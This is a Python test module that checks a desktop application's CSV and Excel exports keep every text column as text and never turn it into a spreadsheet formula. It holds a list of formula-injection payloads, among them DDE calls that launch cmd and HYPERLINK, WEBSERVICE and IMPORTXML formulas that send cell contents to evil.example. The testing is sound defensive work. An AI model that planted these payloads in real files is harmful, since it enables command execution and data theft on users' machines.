"""Texts that a spreadsheet would take for formulas, in every text column of an export, must stay texts."""

import csv
import itertools
import re
import zipfile
from collections import Counter
from collections.abc import Sequence
from pathlib import Path

import duckdb
import openpyxl
from openpyxl import Workbook
from python_calamine import CalamineWorkbook

from tests.export.factories import SHEETS, WRITTEN_COLUMNS, report, row, write
from tests.faults.case import Env, Fault, Observed
from tests.faults.two_offices import SWEDISH
from vitec_desktop.export.csv_files import write_csv
from vitec_desktop.export.export_spec import ExportRequest
from vitec_desktop.report.cell_text import REPLACEMENT
from vitec_desktop.report.columns import Column, ColumnKind
from vitec_desktop.report.formatting import column_heading
from vitec_desktop.report.lists import COLUMNS, LIST_NAMES
from vitec_desktop.report.report import Report, Row
from vitec_desktop.webservice.cancellation import CancellationToken
from vitec_desktop.webservice.models import ListKind

_GROUP = "formulas"

# Payloads from published reports about spreadsheets and CSV files, and the characters that begin a formula.
PAYLOADS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    '"=1+1',
    ";=1+1",
    ",=1+1",
    "＝1+1",
    "＋1+1",
    "\ufeff=1+1",
    "{=1+1}",
    "_x003D_1+1",
    "%0A=1+1",
    # Payloads that try to end their cell.
    'x";=1+1;"y',
    'x",=1+1,"y',
    '";=1+1',
    "x\r\n=1+1",
    'x"\r\n=1+1;"y',
    "x\t=1+1",
    # Payloads that hide the first character.
    "\x00=1+1",
    "\xa0=1+1",
    "\u200b=1+1",
    "−1+1",
)
_TEXT_KINDS = (ColumnKind.TEXT, ColumnKind.LONG_TEXT)
# Excel computes a formula after a tab or a line end, but not after a space.
_FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
_FORMULA = re.compile(rb"<f(?: [^>]*)?(?:/>|>.*?</f>)", re.DOTALL)
_ROW_NUMBER = re.compile(rb"(?<=[A-Z])\d+")  # a formula is the same a row further down


def _in_workbook(env: Env) -> Observed:
    target = env.folder / "Tips och leads.xlsx"
    write(_report(), target)
    cells = changed = 0
    book = openpyxl.load_workbook(target)
    calamine = CalamineWorkbook.from_path(target)
    for kind, name in SHEETS.items():
        read = calamine.get_sheet_by_name(name).to_python(skip_empty_area=False)
        places = [read[0].index(_heading(column)) for column in COLUMNS[kind] if column.kind in _TEXT_KINDS]
        for number, payload in enumerate(PAYLOADS):
            for place in places:
                cell = book[name].cell(number + 2, place + 1)
                is_text = cell.data_type in ("s", "inlineStr")
                texts = str(cell.value), str(read[number + 1][place])
                changed += not (is_text and all(_is_same_text(text, payload) for text in texts))
                cells += 1
    harmless = env.folder / "Utan.xlsx"
    write(_report(["Ring före lunch"] * len(PAYLOADS)), harmless)
    # The program's own formulas, those of the state marks, are the same in both files.
    formulas = _count_formulas(book) + (_formulas(target) - _formulas(harmless)).total()
    note = f"{len(PAYLOADS)} payloads in {cells} cells, read by openpyxl and calamine"
    kept = f"formulas: {formulas}; changed texts: {changed}"
    return Observed(None, None, kept, totals={"payloads tried": len(PAYLOADS)}, note=note)


def _heading(column: Column) -> str:
    """Return the heading of the column that holds the whole text."""
    is_cut = column.kind is ColumnKind.LONG_TEXT
    return SWEDISH.text("Export", "Hela meddelandet") if is_cut else column_heading(column, SWEDISH)


def _formulas(path: Path) -> Counter[tuple[str, bytes]]:
    """Return the formulas of each sheet as they stand in its file."""
    with zipfile.ZipFile(path) as archive:
        parts = archive.namelist()
        assert not any("externalLink" in part for part in parts)
        sheets = [part for part in parts if part.startswith("xl/worksheets/sheet")]
        found = ((part, formula) for part in sheets for formula in _FORMULA.findall(archive.read(part)))
        return Counter((part, _ROW_NUMBER.sub(b"", formula)) for part, formula in found)


def _count_formulas(book: Workbook) -> int:
    """Return how many texts of all sheets would become a formula when a user opens and leaves the cell."""
    formulas = 0
    titles = set()
    for sheet in book.worksheets:
        for cell in itertools.chain.from_iterable(sheet.iter_rows()):
            is_text = cell.data_type != "f" and isinstance(cell.value, str)
            if is_text and str(cell.value).startswith(_FORMULA_STARTS):
                formulas += not cell.quotePrefix
                titles.add(sheet.title)
    assert titles > set(SHEETS.values()), "the statistics sheets have no payloads"
    return formulas


def _in_csv_files(env: Env) -> Observed:
    """Read the files as Excel does: a cell that begins like a formula is one, quoted or not."""
    folder = env.folder / "csv"
    write_csv(_report(), ExportRequest(folder, SWEDISH), CancellationToken())
    cells = changed = formulas = 0
    escaped = set()
    for kind in ListKind:
        path = folder / f"{SWEDISH.text('Lists', LIST_NAMES[kind])}.csv"
        places = [place for place, column in enumerate(WRITTEN_COLUMNS[kind]) if column.kind in _TEXT_KINDS]
        for read in (_read_with_python(path), _read_with_duckdb(path)):
            for values, payload in zip(read[1:], PAYLOADS, strict=True):
                assert len(values) == len(WRITTEN_COLUMNS[kind]), values
                for place in places:
                    cell = values[place]
                    is_escaped = _is_same_text(cell, f"'{payload}")
                    formulas += cell[:1] in _FORMULA_STARTS
                    changed += not (is_escaped or _is_same_text(cell, payload))
                    escaped |= {payload} if is_escaped else set()
                    cells += 1
    note = f"{len(PAYLOADS)} payloads in {cells // 2} cells, read by Python and DuckDB"
    kept = f"formulas: {formulas}; changed texts: {changed}; texts after an apostrophe: {len(escaped)}"
    return Observed(None, None, kept, note=note)


def _read_with_python(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=";", strict=True))


def _read_with_duckdb(path: Path) -> list[list[str]]:
    """Return the cells as DuckDB reads them, which shares no code with Python's reader."""
    with duckdb.connect() as base:
        table = base.read_csv(path, delimiter=";", quotechar='"', escapechar='"', header=False, all_varchar=True)
        return [[value or "" for value in row] for row in table.fetchall()]


def _report(payloads: Sequence[str] = PAYLOADS) -> Report:
    tables = {
        kind: [_row_with_payload(kind, number, payload) for number, payload in enumerate(payloads)] for kind in ListKind
    }
    return report(tables)


def _row_with_payload(kind: ListKind, number: int, payload: str) -> Row:
    values = row(kind, number)
    return tuple(
        payload if column.kind in _TEXT_KINDS else value for column, value in zip(COLUMNS[kind], values, strict=True)
    )


def _is_same_text(read: str, payload: str) -> bool:
    """Return whether a text that was read is the payload, but for line ends and characters that no file can hold.

    One of the readers leaves OOXML's escapes in.
    """
    plain = read.replace("_x000D_", "\r").replace("_x005F_", "_")
    return _normalise_line_ends(plain) == _normalise_line_ends(payload).replace("\x00", REPLACEMENT)


def _normalise_line_ends(text: str) -> str:
    return text.replace("\r\n", "\n").replace("\r", "\n")


FAULTS = (
    Fault(
        _GROUP,
        "in every text column of CSV files",
        _in_csv_files,
        None,
        None,
        "formulas: 0; changed texts: 0; texts after an apostrophe: 19",
    ),
    Fault(
        _GROUP,
        "in every text column of a workbook",
        _in_workbook,
        None,
        None,
        "formulas: 0; changed texts: 0",
        is_slow=True,
    ),
)
